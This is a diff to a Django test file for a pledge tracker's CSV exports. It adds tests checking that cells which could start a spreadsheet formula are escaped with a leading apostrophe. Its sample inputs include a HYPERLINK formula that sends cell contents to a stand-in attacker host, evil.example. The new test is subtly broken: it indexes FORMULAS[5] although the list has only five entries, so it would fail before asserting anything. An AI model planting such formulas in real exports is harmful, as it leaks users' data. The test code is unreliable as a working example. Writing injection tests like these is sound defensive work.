@@ -13,7 +13,7 @@ from django.urls import reverse
 from tests.factories import evidence_on, make_pledge, make_statement, retract, update_on
 from tests.helpers import body, csv_rows, queries_for
 from tracker import services
-from tracker.views.exports import HISTORY_COLUMNS, PLEDGE_COLUMNS
+from tracker.views.exports import HISTORY_COLUMNS, PLEDGE_COLUMNS, safe_cell
 from tracker.vocabulary import Status
 
 pytestmark = pytest.mark.django_db
@@ -116,7 +116,7 @@ def test_analysts_cannot_export(client_for, analyst, many):
 
 
 def test_text_in_the_csv_is_kept_as_written(manager_client, analyst):
-    pledge = make_pledge(make_statement(), 1, summary='=HYPERLINK("x"), "quoted", and, commas')
+    pledge = make_pledge(make_statement(), 1, summary='Train "judges", in Malta, and, commas')
     [row] = csv_rows(manager_client.get(reverse("export_pledges", args=["csv"])))
     assert row["summary"] == pledge.summary
 
@@ -186,3 +186,43 @@ def test_the_export_reads_the_pledges_a_chunk_at_a_time(manager_client, many, dj
     # 75 would be 2 queries, a query per pledge would be 75 or more.
     with django_assert_max_num_queries(8):
         body(manager_client.get(reverse("export_pledges", args=["csv"])))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+]
+
+
+def test_every_cell_of_every_csv_is_safe_to_open_in_a_spreadsheet(manager_client, analyst, administrator):
+    statement = make_statement()
+    pledge = make_pledge(
+        statement, 1, summary=FORMULAS[0], beneficiaries=FORMULAS[3], deadline_text=FORMULAS[4]
+    )
+    evidence = evidence_on(pledge, analyst, title=FORMULAS[1])
+    update = update_on(pledge, analyst, Status.IN_PROGRESS, rationale=FORMULAS[2], evidence=[evidence])
+    retract(update, analyst, reason=FORMULAS[5])
+    exports = [
+        manager_client.get(reverse("export_pledges", args=["csv"])),
+        manager_client.get(reverse("pledge_history_csv", args=[pledge.pk])),
+    ]
+
+    cells = [cell for response in exports for row in csv_rows(response) for cell in row.values()]
+
+    assert cells
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_a_cell_that_would_start_a_formula_is_kept_as_text(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Japan will", "1-2 March", 5, None, True])
+def test_other_cells_are_left_as_they_are(value):
+    assert safe_cell(value) == value
